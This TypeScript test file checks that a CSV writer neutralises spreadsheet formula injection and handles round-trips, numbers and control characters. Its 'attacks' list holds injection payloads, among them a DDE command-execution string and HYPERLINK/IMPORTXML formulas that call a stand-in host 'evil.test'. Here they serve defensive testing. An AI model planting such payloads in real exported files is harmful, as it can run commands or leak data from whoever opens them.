import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { csvLine } from '../../api/contract/csv/form.ts';
import { printCsv } from './csv.ts';
import { createOutput } from './stream.ts';
import { capture, parseCsv } from '../testing/text.ts';

const printable = fc.string({
  unit: fc.constantFrom('a', 'ß', '王', ' ', ',', ';', '"', "'", '\n', '\r', '\t', '=', '-'),
});
const dangerous = /^([\t\r\n]|[\s"';,]*[=-])/;

test('a CSV line read back gives the same values', () => {
  fc.assert(
    fc.property(fc.array(printable, { minLength: 2 }), (values) => {
      const [read] = parseCsv(`${csvLine(values)}\n`);
      assert.deepEqual(
        read,
        values.map((value) => (dangerous.test(value) ? `'${value}` : value)),
      );
    }),
  );
});

test('S-FX-01: no text of a CSV cell starts as a formula does, whatever hides its sign', () => {
  const attacks = [
    "=cmd|'/c calc'!A1",
    '+1',
    '-1+1',
    '@SUM(A1)',
    '\tx',
    '\rx',
    '\nx',
    '\u0000=1',
    ' =1',
    '"=1',
    "'=1",
    ';=1',
    '\n=1',
    '\uff1d1',
    '\uff0b1',
    '\uff0d1',
    '\uff201',
    '=HYPERLINK("http://evil.test","x")',
    '=IMPORTXML("http://evil.test","//a")',
  ];
  for (const attack of attacks) {
    const line = csvLine([attack, 'x']);
    assert.match(line, /^"'/, JSON.stringify(attack));
    assert.equal(parseCsv(`${line}\n`).length, 1);
  }
  assert.equal(csvLine(['plain', -3]), '"plain",-3');
});

test('no text of a CSV cell starts as a formula does', () => {
  fc.assert(
    fc.property(fc.constantFrom('=', '+', '-', '@', '\t', '\r'), fc.string(), (start, rest) => {
      const [read] = parseCsv(`${csvLine([start + rest, 'x'])}\n`);
      assert.match(read?.[0] ?? '', /^'/);
    }),
  );
});

test('numbers of ours keep their minus, unknown ones are empty, flags are words', () => {
  assert.equal(csvLine([-4, null, true, false, 0.97]), '-4,,true,false,0.97');
});

test('control characters in CSV become pictures, tabs and line ends stay', () => {
  assert.equal(csvLine(['a\u001b[31m\u0000', 'b\tc', 'd\ne']), '"a␛[31m␀","b\tc","d\ne"');
});

test('an empty list is a header alone', async () => {
  const { stream, text } = capture();
  const out = createOutput(stream);
  await printCsv(out, { header: ['a', 'b'], cells: () => [] }, []);
  await out.flush();
  assert.equal(text(), 'a,b\n');
});
